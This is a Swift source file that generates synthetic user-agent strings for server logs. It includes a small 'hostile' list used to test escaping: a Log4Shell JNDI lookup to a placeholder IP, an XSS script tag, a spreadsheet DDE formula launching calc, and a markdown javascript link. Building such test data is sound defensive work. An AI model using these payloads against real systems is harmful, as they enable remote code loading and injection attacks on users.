// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: 2026 The Recount authors

/// User agents and referrers as a server's log shows them.
struct AgentPool: Sendable {
  /// Who calls a service.
  enum Audience: Sendable {
    case builders, browsers, integrations
  }

  private let agents: [[UInt8]]
  private let hostile: [[UInt8]]

  init(_ audience: Audience, escape: TextEscape) {
    agents = AgentPool.agents(of: audience).map(escape.escape)
    hostile = AgentPool.hostileAgents.map(escape.escape)
  }

  /// One in 2,048 is hostile: legal in a log, awkward to show.
  func pick(_ bits: UInt64) -> [UInt8] {
    bits & 2047 == 0 ? TextTemplate.pick(hostile, bits) : TextTemplate.pick(agents, bits)
  }

  private static func agents(of audience: Audience) -> [String] {
    switch audience {
    case .builders:
      [
        "docker/20.10.21 go/go1.18.7 git-commit/3056208 kernel/5.15.0-1026-aws os/linux arch/amd64",
        "containerd/1.6.10",
        "docker/20.10.18 go/go1.18.6 git-commit/e42327a kernel/5.4.219-126.411.amzn2 os/linux "
          + "arch/amd64 UpstreamClient(Docker-Client/20.10.18 \\(linux\\))",
        "kubelet/v1.23.9 (linux/amd64) kubernetes/6ecd8b1", "Buildkit/0.10.6",
        "containerd/1.5.13", "skopeo/1.10.0", "go-containerregistry/v0.12.1", "curl/7.81.0",
      ]
    case .browsers:
      [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          + "Chrome/108.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
          + "Chrome/108.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          + "Version/16.1 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:107.0) Gecko/20100101 Firefox/107.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          + "Chrome/108.0.0.0 Safari/537.36 Edg/108.0.1462.46",
        "Mozilla/5.0 (X11; Linux x86_64; rv:108.0) Gecko/20100101 Firefox/108.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
          + "Gecko) Version/16.1 Mobile/15E148 Safari/604.1",
        "WorkspaceMobile/134.2 (Android 13; Pixel 6)",
      ]
    case .integrations:
      [
        "okhttp/4.10.0", "axios/1.2.1", "python-requests/2.28.1", "Apache-HttpClient/4.5.13",
        "node-fetch/2.6.7", "Go-http-client/2.0", "Java/11.0.17", "forge-bridge/3.8.1",
        "curl/7.86.0", "PostmanRuntime/7.30.0",
      ]
    }
  }

  private static let hostileAgents: [String] = [
    "Mozilla/5.0 \"quoted\" (compatible; caf\u{E9}bot/1.0)",
    "${jndi:ldap://203.0.113.66:1389/a}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "](javascript:alert(1)) | col | `code`",
    "\u{202E}toba/0.1 \\ back\\slash",
    "-", "\u{1F680} rocket/2",
  ]
}
